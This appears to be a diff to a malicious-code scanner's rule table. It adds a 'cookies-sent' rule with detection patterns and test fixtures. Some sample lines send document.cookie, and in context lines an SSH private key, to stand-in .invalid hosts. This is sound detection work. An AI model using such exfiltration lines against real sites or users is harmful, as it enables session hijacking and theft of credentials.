@@ -191,7 +191,6 @@ RULES = (
                 "const fs = require('fs');\nconst os = require('os');\n"
                 "const key = fs.readFileSync(os.homedir() + '/.ssh/id_rsa', 'utf8');\n"
                 "fetch('https://a.invalid', { method: 'POST', body: key });\n",
-                "fetch('https://a.invalid/?c=' + document.cookie);\n",
             ),
             "rust": (
                 "fn main() {\n"
@@ -699,6 +698,41 @@ RULES = (
             "python": ("ADDRESS = 'https://a.invalid/'\n",),
             "javascript": ("const address = 'https://a.invalid/';\n",),
             "rust": ('const ADDRESS: &str = "https://a.invalid/";\n',),
+        },
+    ),
+    Rule(
+        "cookies-sent",
+        "exfiltration",
+        MALICE,
+        MEDIUM,
+        LIKELY,
+        200,
+        "The cookies of a page are sent to another place",
+        "Who has them is signed in as the user.",
+        "Send nothing but what the server itself set.",
+        {
+            "javascript": (
+                "fetch(0: built & ~cookie)",
+                "fetch(1.body: ~cookie)",
+                ".sendBeacon(*: ~cookie)",
+                "Image().src = ~cookie & built",
+                ".src = ~cookie & built",
+                "axios.get(0: built & ~cookie)",
+                "axios.post(1: ~cookie)",
+                "WebSocket().send(0: ~cookie)",
+                "open(0: built & ~cookie)",
+                "location.href = ~cookie & built",
+                "location = ~cookie & built",
+            ),
+        },
+        bad={
+            "javascript": (
+                "new Image().src = 'https://c.invalid/p?c=' + document.cookie;\n",
+                "fetch('https://c.invalid/p', { method: 'POST', body: document.cookie });\n",
+            ),
+        },
+        good={
+            "javascript": ("const theme = document.cookie.includes('dark');\n",),
         },
     ),
     Rule(
